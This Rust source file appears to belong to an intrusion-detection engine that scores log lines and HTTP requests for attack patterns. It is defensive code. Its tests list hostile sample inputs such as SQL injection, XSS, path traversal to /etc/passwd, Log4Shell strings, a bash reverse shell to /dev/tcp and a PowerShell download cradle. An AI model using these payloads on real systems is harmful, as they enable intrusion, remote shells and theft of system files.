//! From a text to a verdict: the gate, the normaliser, the triggers, and at last the expressions.

use super::columns::Place;
use super::gate::Gate;
use super::normalise::{Normaliser, Undone};
use super::rules::{self, Places, Rule};
use super::{Class, VERSIONS};
use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use memchr::memmem::Finder;
use regex::bytes::{Regex, RegexBuilder};
use smallvec::SmallVec;
use std::sync::Arc;

/// Longest normalised text that expressions see whole.
const WHOLE: usize = 16 * 1024;
/// What is kept on each side of a trigger in a longer text.
const AROUND: usize = 256;
/// At most this many reasons are kept of one text.
pub(crate) const REASONS: usize = 8;
/// The most that a path which is only probed counts: with a refusal it stays below an alert.
const PROBE: u8 = 74;
/// How many lines of a message are asked whether it tells of a process.
const MESSAGE_LINES: usize = 64;
/// The newest version of the definition.
const NEWEST: u32 = 2;
/// Words of a set of rules.
const SET: usize = 4;

/// Which rules of [`Matcher`] are named by an index at or above the number of rules: what the
/// normaliser counted.
const COUNTED: [(Class, u8, &str); 7] = [
    (Class::Encoded, 75, "payload encoded twice"),
    (Class::Encoded, 70, "letters hidden by character references or escapes"),
    (Class::Encoded, 55, "letters percent-encoded without need"),
    (Class::Protocol, 80, "overlong UTF-8"),
    (Class::Protocol, 65, "NUL byte"),
    (Class::Protocol, 65, "encoded line end"),
    (Class::Protocol, 70, "long run of one character"),
];

/// Index of a rule or of an entry of [`COUNTED`] behind the rules.
pub(crate) type RuleId = u8;

/// What was found in one text.
#[derive(Debug, Clone, Default, PartialEq)]
pub(crate) struct Verdict {
    /// How strongly each class is spoken for, 0 to 1.
    pub(crate) strength: [f32; Class::COUNT],
    /// The rules that matched, strongest first.
    pub(crate) rules: SmallVec<[RuleId; REASONS]>,
}

impl Verdict {
    /// Adds what was found in another text of the same record, in a version of the definition.
    pub(crate) fn add(&mut self, other: &Self, version: u32) {
        for class in Class::ALL {
            let theirs = other.strength.get(class as usize).copied().unwrap_or(0.0);
            self.raise(class, theirs, version);
        }
    }

    /// Takes in one more sign of a class. Signs of a scanner do not come together as if they were
    /// independent: whatever asks for paths to see whether they are there is a client without a browser.
    fn raise(&mut self, class: Class, by: f32, version: u32) {
        if let Some(strength) = self.strength.get_mut(class as usize) {
            *strength = if class == Class::Scanner && version > 1 {
                strength.max(by)
            } else {
                either(*strength, by)
            };
        }
    }

    /// The class that is spoken for most strongly, and how strongly; the earlier class on a tie.
    pub(crate) fn best(&self) -> Option<(Class, f32)> {
        let mut best: Option<(Class, f32)> = None;
        for (class, strength) in Class::ALL.into_iter().zip(self.strength) {
            if strength > 0.0 && best.is_none_or(|(_, most)| strength > most) {
                best = Some((class, strength));
            }
        }
        best
    }

    /// The strength of the record as an attack of any class: the strongest, raised by half of the
    /// second strongest.
    pub(crate) fn overall(&self) -> f32 {
        let (mut first, mut second) = (0.0f32, 0.0f32);
        for strength in self.strength {
            if strength > first {
                (first, second) = (strength, first);
            } else if strength > second {
                second = strength;
            }
        }
        either(first, second * 0.5)
    }
}

/// One or the other: `1 − (1 − a)(1 − b)`.
pub(crate) fn either(a: f32, b: f32) -> f32 {
    1.0 - (1.0 - a) * (1.0 - b)
}

type RuleSet = [u64; SET];

/// The compiled rules. Cloning is cheap for all but the expressions' caches, which are each clone's
/// own, so clones do not wait for each other.
#[derive(Debug, Clone)]
pub(crate) struct Matcher {
    /// The version of the definition in force (C3).
    version_in_force: u32,
    /// The rules that it has.
    in_force: RuleSet,
    line_gate: Arc<Gate>,
    request_gate: Arc<Gate>,
    triggers: AhoCorasick,
    /// For each trigger, the rules that it makes worth trying, and whether it has to be a whole word.
    by_trigger: Arc<[(RuleSet, bool)]>,
    compiled: Vec<Compiled>,
    /// Finds the version in the first line of a request.
    version: Finder<'static>,
    normaliser: Normaliser,
    excerpt: Vec<u8>,
    /// The triggers that were met in this text.
    met: Vec<bool>,
}

#[derive(Debug, Clone)]
struct Compiled {
    rule: &'static Rule,
    expression: Option<Regex>,
}

/// Why the rules cannot be compiled; a defect of this crate that its tests find.
#[derive(Debug, thiserror::Error)]
pub enum RuleError {
    /// An expression is wrong or too large.
    #[error("threat rule '{0}' does not compile: {1}; this is a defect, please report it")]
    Expression(&'static str, Box<regex::Error>),
    /// The triggers cannot be built.
    #[error(
        "the triggers of the threat rules do not compile: {0}; this is a defect, please report it"
    )]
    Triggers(#[from] Box<aho_corasick::BuildError>),
    /// There are more rules than a set holds.
    #[error("{0} threat rules are more than fit; this is a defect, please report it")]
    TooMany(usize),
}

impl RuleError {
    /// Nothing can be done at run time.
    #[must_use]
    pub fn class(&self) -> palisade_event::ErrorClass {
        palisade_event::ErrorClass::Critical
    }
}

impl Matcher {
    pub(crate) fn new() -> Result<Self, RuleError> {
        let mut compiled = Vec::new();
        let mut words: Vec<&'static str> = Vec::new();
        let mut by_trigger: Vec<(RuleSet, bool)> = Vec::new();
        for (id, rule) in rules::all().enumerate() {
            let expression = if rule.pattern.is_empty() {
                None
            } else {
                let expression = RegexBuilder::new(rule.pattern)
                    .unicode(false)
                    .dot_matches_new_line(true)
                    .size_limit(4 << 20)
                    .build()
                    .map_err(|error| RuleError::Expression(rule.reason, Box::new(error)))?;
                Some(expression)
            };
            compiled.push(Compiled { rule, expression });
            for trigger in rule.triggers {
                let at = match words.iter().position(|word| word == trigger) {
                    Some(at) => at,
                    None => {
                        words.push(trigger);
                        // Short words of letters are parts of many others.
                        let whole =
                            trigger.len() <= 4 && trigger.bytes().all(|b| b.is_ascii_alphabetic());
                        by_trigger.push(([0; SET], whole));
                        words.len() - 1
                    }
                };
                if let Some((set, _)) = by_trigger.get_mut(at) {
                    insert(set, id);
                }
            }
        }
        if compiled.len() + COUNTED.len() > SET * 64 {
            return Err(RuleError::TooMany(compiled.len()));
        }
        let triggers = AhoCorasick::builder()
            .kind(Some(AhoCorasickKind::DFA))
            .match_kind(MatchKind::Standard)
            .build(&words)
            .map_err(Box::new)?;
        let mut matcher = Self {
            version_in_force: NEWEST,
            in_force: [0; SET],
            line_gate: Arc::new(Gate::new(words_for(Places::LINE.and(Places::COMMAND)), false)),
            request_gate: Arc::new(Gate::new(words_for(Places::ANY), true)),
            triggers,
            by_trigger: by_trigger.into(),
            compiled,
            version: Finder::new(b" HTTP/"),
            normaliser: Normaliser::default(),
            excerpt: Vec::new(),
            met: Vec::new(),
        };
        matcher.use_version(NEWEST);
        Ok(matcher)
    }

    /// The class and the words of a rule.
    pub(crate) fn describe(&self, id: RuleId) -> (Class, &'static str) {
        let id = usize::from(id);
        match self.compiled.get(id) {
            Some(compiled) => (compiled.rule.class, compiled.rule.reason),
            None => match COUNTED.get(id.saturating_sub(self.compiled.len())) {
                Some((class, _, reason)) => (*class, reason),
                None => (Class::Protocol, "unknown rule"),
            },
        }
    }

    /// Lets a version of the definition be in force; an unknown one stands for the newest.
    pub(crate) fn use_version(&mut self, version: u32) {
        self.version_in_force = if VERSIONS.contains(&version) { version } else { NEWEST };
        self.in_force = [0; SET];
        for (id, Compiled { rule, .. }) in self.compiled.iter().enumerate() {
            if rule.is_in(self.version_in_force) {
                insert(&mut self.in_force, id);
            }
        }
    }

    /// The version of the definition in force.
    pub(crate) fn version(&self) -> u32 {
        self.version_in_force
    }

    /// Looks at one text as it stands in a place; `None` when nothing speaks for an attack.
    pub(crate) fn look(&mut self, raw: &[u8], place: Place) -> Option<Verdict> {
        self.inspect(raw, place.places(self.version_in_force))
    }

    /// Looks at one text; `None` when nothing speaks for an attack.
    fn inspect(&mut self, raw: &[u8], places: Places) -> Option<Verdict> {
        if !self.worth_a_look(raw, places) {
            return None;
        }
        let verdict = self.inspect_closely(raw, places);
        self.normaliser.trim();
        verdict
    }

    /// The gate, on the text as it is, or percent-decoded where there is something to decode.
    fn worth_a_look(&mut self, raw: &[u8], places: Places) -> bool {
        let request = places.meets(Places::SENT)
            || (raw.first() == Some(&b'/')
                && (!places.meets(Places::VALUE) || memchr::memchr(b'?', raw).is_some()))
            || self.version.find(raw).is_some();
        let gate = if request { &self.request_gate } else { &self.line_gate };
        if gate.opens(raw) {
            return true;
        }
        if memchr::memchr(b'%', raw).is_none() {
            return false;
        }
        match self.normaliser.percent_decoded(raw) {
            // A percent sign that is left belongs to a second layer.
            Some((decoded, suspicious)) => {
                suspicious || memchr::memchr(b'%', decoded).is_some() || gate.opens(decoded)
            }
            None => false,
        }
    }

    /// All but the gate; public to tests, which compare both.
    pub(crate) fn inspect_closely(&mut self, raw: &[u8], places: Places) -> Option<Verdict> {
        self.normaliser.run(raw);
        let version = self.version_in_force;
        let text = &self.normaliser.text;
        let places = if places.meets(Places::LINE) && is_request(text)
            || places.meets(Places::VALUE) && is_whole_request(text)
        {
            places.and(Places::REQUEST)
        } else if places.meets(Places::LINE) && version > 1 && tells_of_a_process(raw) {
            Places::PROCESS
        } else {
            places
        };
        let mut candidates: RuleSet = [0; SET];
        let text: &[u8] = &self.normaliser.text;
        let long = text.len() > WHOLE;
        if long {
            self.excerpt.clear();
        }
        let mut kept = 0;
        self.met.clear();
        self.met.resize(self.by_trigger.len(), false);
        for found in self.triggers.find_overlapping_iter(text) {
            // A trigger counts once, however often it stands there.
            let Some(met) = self.met.get_mut(found.pattern().as_usize()).filter(|met| !**met)
            else {
                continue;
            };
            let Some((set, whole)) = self.by_trigger.get(found.pattern().as_usize()) else {
                continue;
            };
            if *whole && !is_whole(text, found.start(), found.end()) {
                continue;
            }
            *met = true;
            let mut new = false;
            for ((all, one), has) in candidates.iter_mut().zip(set).zip(&self.in_force) {
                new |= *one & *has & !*all != 0;
                *all |= *one & *has;
            }
            // Of a long text, what stands around the first trigger of each rule is enough.
            if long && new && self.excerpt.len() < WHOLE {
                let from = found.start().saturating_sub(AROUND).max(kept);
                let to = (found.end() + AROUND).min(text.len());
                self.excerpt.extend_from_slice(text.get(from..to).unwrap_or_default());
                kept = to.max(kept);
            }
        }
        let seen: &[u8] = if long { &self.excerpt } else { text };
        let mut found = Found::default();
        for (index, word) in candidates.iter().enumerate() {
            let mut word = *word;
            while word != 0 {
                let id = index * 64 + word.trailing_zeros() as usize;
                word &= word - 1;
                let Some(Compiled { rule, expression }) = self.compiled.get(id) else { continue };
                if rule.places.meets(places)
                    && expression.as_ref().is_none_or(|expression| expression.is_match(seen))
                {
                    // Looking for a door is no attack yet.
                    let probe = rule.class == Class::Scanner && rule.places == Places::REQUEST;
                    let most = if probe && version > 1 { PROBE } else { u8::MAX };
                    found.add(id, rule.class, rule.weight.min(most), version);
                }
            }
        }
        for (index, (class, weight, _)) in COUNTED.iter().enumerate() {
            if counted(&self.normaliser.undone, index, places) {
                found.add(self.compiled.len() + index, *class, *weight, version);
            }
        }
        found.verdict()
    }
}

/// The triggers of the rules that hold in one of these places.
fn words_for(places: Places) -> impl Iterator<Item = &'static str> {
    rules::all()
        .filter(move |rule| rule.places.meets(places))
        .flat_map(|rule| rule.triggers.iter().copied())
}

/// Whether no letter stands before or behind.
fn is_whole(text: &[u8], start: usize, end: usize) -> bool {
    let letter =
        |at: Option<usize>| at.and_then(|at| text.get(at)).is_some_and(u8::is_ascii_alphabetic);
    !letter(start.checked_sub(1)) && !letter(Some(end))
}

/// Whether an entry of [`COUNTED`] holds.
fn counted(undone: &Undone, index: usize, places: Places) -> bool {
    let request = places.meets(Places::SENT);
    match index {
        0 => undone.twice > 0,
        1 => undone.escaped_letters >= 4,
        2 => undone.percent_letters >= 4,
        3 => undone.overlong > 0,
        4 => undone.nul > 0,
        5 => undone.encoded_lines > 0 && request,
        6 => undone.longest_run >= 100,
        _ => false,
    }
}

/// Whether a line is a request or holds one: a path, or a method and version of HTTP.
fn is_request(text: &[u8]) -> bool {
    text.first() == Some(&b'/') || has_method(text)
}

/// Whether a value is a request: a path with a query, or a method and version of HTTP. A path alone
/// names a file or a program as well.
fn is_whole_request(text: &[u8]) -> bool {
    let query = || {
        let at = memchr::memchr(b'?', text)?;
        memchr::memchr(b'=', text.get(at..)?)
    };
    (text.first() == Some(&b'/') && query().is_some()) || has_method(text)
}

/// Fields of the messages that Windows and its sensors write about processes.
const PROCESS_FIELDS: [&[u8]; 11] = [
    b"image:",
    b"commandline:",
    b"parentcommandline:",
    b"process name:",
    b"new process name:",
    b"process command line:",
    b"application name:",
    b"sourceimage:",
    b"targetimage:",
    b"hostapplication=",
    b"host application =",
];

/// Whether a message of several lines tells of a process: then its programs and commands are what it
/// is there to tell. The fields have to begin lines of the text as it was sent, which a value inside a
/// line of a log does not.
fn tells_of_a_process(raw: &[u8]) -> bool {
    let begins = |line: &[u8]| {
        let line = line.trim_ascii_start();
        let is = |field: &&[u8]| {
            line.get(..field.len()).is_some_and(|begin| begin.eq_ignore_ascii_case(field))
        };
        PROCESS_FIELDS.iter().any(is)
    };
    memchr::memchr_iter(b'\n', raw)
        .take(MESSAGE_LINES)
        .any(|at| raw.get(at + 1..).is_some_and(begins))
}

fn has_method(text: &[u8]) -> bool {
    memchr::memmem::find(text, b" http/").is_some()
        || [&b"get /"[..], b"post /", b"put /", b"head /", b"delete /", b"options /", b"patch /"]
            .iter()
            .any(|method| text.starts_with(method))
}

fn insert(set: &mut RuleSet, id: usize) {
    if let Some(word) = set.get_mut(id / 64) {
        *word |= 1 << (id % 64);
    }
}

#[derive(Default)]
struct Found {
    verdict: Verdict,
    weights: SmallVec<[(u8, RuleId); 16]>,
}

impl Found {
    fn add(&mut self, id: usize, class: Class, weight: u8, version: u32) {
        self.verdict.raise(class, f32::from(weight) / 100.0, version);
        self.weights.push((weight, id as RuleId));
    }

    fn verdict(mut self) -> Option<Verdict> {
        if self.weights.is_empty() {
            return None;
        }
        self.weights.sort_by_key(|(weight, id)| (std::cmp::Reverse(*weight), *id));
        self.verdict.rules = self.weights.iter().take(REASONS).map(|(_, id)| *id).collect();
        Some(self.verdict)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The gate only saves work: what it keeps out holds no attack worth a class. Each is found both
    /// ways, in each place that its rule holds for.
    #[test]
    fn the_gate_opens_for_attacks() {
        let mut matcher = Matcher::new().unwrap();
        for text in [
            "1' or '1'='1",
            "-5 union select 1,2,3",
            "1) and sleep(5)#",
            "1;drop table users--",
            "<script>alert(1)</script>",
            "%3Cimg src=x onerror=alert(1)%3E",
            "javascript:alert(1)",
            ";cat /etc/passwd",
            "|id",
            "$(whoami)",
            "`id`",
            "../../../../etc/passwd",
            "..%2f..%2f..%2fwindows%2fwin.ini",
            "%252e%252e%252f%252e%252e%252fetc/passwd",
            "${jndi:ldap://x/a}",
            "<?php phpinfo(); ?>",
            "() { :;}; /bin/bash -c id",
            "sqlmap/1.7#stable",
            "a\0b",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        ] {
            for places in [Places::LINE, Places::REQUEST, Places::AGENT, Places::VALUE] {
                let whole = matcher.inspect_closely(text.as_bytes(), places);
                let gated = matcher.inspect(text.as_bytes(), places);
                assert_eq!(whole, gated, "{text}");
                let class = gated.and_then(|verdict| verdict.best());
                let found = class.is_some_and(|(_, strength)| strength >= 0.5);
                assert!(found, "{text} {places:?}");
            }
        }
    }

    #[test]
    fn harmless_texts_have_no_class() {
        let mut matcher = Matcher::new().unwrap();
        for text in [
            "The union of workers selected a new chair; drop by at table 5 or call 1-800",
            "user O'Brien said \"hello\" and left",
            "SELECT your seat & update your profile",
            "Connection from 10.0.0.1 (port 22) closed - status=0x1F",
            "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
            "/products?category=shoes&sort=price&order=asc&page=2",
            "https://example.com/search?q=cats+and+dogs",
            "{\"event\":\"login\",\"ok\":true,\"id\":42}",
            "Jan 1 00:00:01 host CRON[1]: (root) CMD (/usr/lib/sysstat/sa1 1 1)",
            "C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
        ] {
            for places in Place::ALL.map(|place| place.places(NEWEST)) {
                let verdict = matcher.inspect_closely(text.as_bytes(), places);
                let strength = verdict.as_ref().and_then(Verdict::best).map_or(0.0, |best| best.1);
                let reasons: Vec<_> = verdict
                    .iter()
                    .flat_map(|v| v.rules.iter().map(|id| matcher.describe(*id).1))
                    .collect();
                assert!(strength < 0.5, "{text} {places:?} {reasons:?}");
            }
        }
    }

    /// What names a thing is no attack on it, and an attack is one there too.
    #[test]
    fn a_path_or_a_name_is_no_attack_in_a_field_of_its_own() {
        let mut matcher = Matcher::new().unwrap();
        for text in [
            "/usr/bin/git",
            "/bin/zsh",
            "/usr/sbin/cron",
            "/etc/shadow",
            "/etc/ssh/sshd_config",
            "/var/log/nginx/error.log",
            "/home/ada/.ssh/authorized_keys",
            "/home/ada/.config/app/settings.json",
            "/srv/app/.env",
            "/finance/archive/schema.sql",
            "/engineering/shared/config.ini",
            "C:\\inetpub\\wwwroot\\web.config",
            "C:\\Windows\\System32\\cmd.exe",
            "file:///srv/share/plan.pdf",
            "nmap/7.94",
            "wapiti",
            "powershell.exe -File C:\\scripts\\backup.ps1",
        ] {
            let verdict = matcher.look(text.as_bytes(), Place::Value);
            let strength = verdict.as_ref().and_then(Verdict::best).map_or(0.0, |best| best.1);
            assert!(strength < 0.5, "{text} {verdict:?}");
        }
        for text in [
            "/srv/www/../../../etc/passwd",
            "/search?q=1' or '1'='1",
            "/cgi-bin/test?cmd=`id`",
            "/?file=/etc/passwd",
            "x' union select password from users--",
            "report.pdf; cat /etc/passwd",
            "<script>alert(1)</script>",
            "${jndi:ldap://x/a}",
        ] {
            let class = matcher.look(text.as_bytes(), Place::Value).and_then(|v| v.best());
            assert!(class.is_some_and(|(_, strength)| strength >= 0.5), "{text} {class:?}");
        }
    }

    #[test]
    fn a_command_line_is_no_injection() {
        let mut matcher = Matcher::new().unwrap();
        let ordinary = "cmd.exe /c ping -n 5 127.0.0.1 & dir c:\\ | find \"x\" && whoami";
        assert_eq!(matcher.inspect(ordinary.as_bytes(), Places::COMMAND), None);
        let cradle =
            "powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://x/a')";
        let verdict = matcher.inspect(cradle.as_bytes(), Places::COMMAND).unwrap();
        assert_eq!(verdict.best().unwrap().0, Class::Cmdi);
    }
}
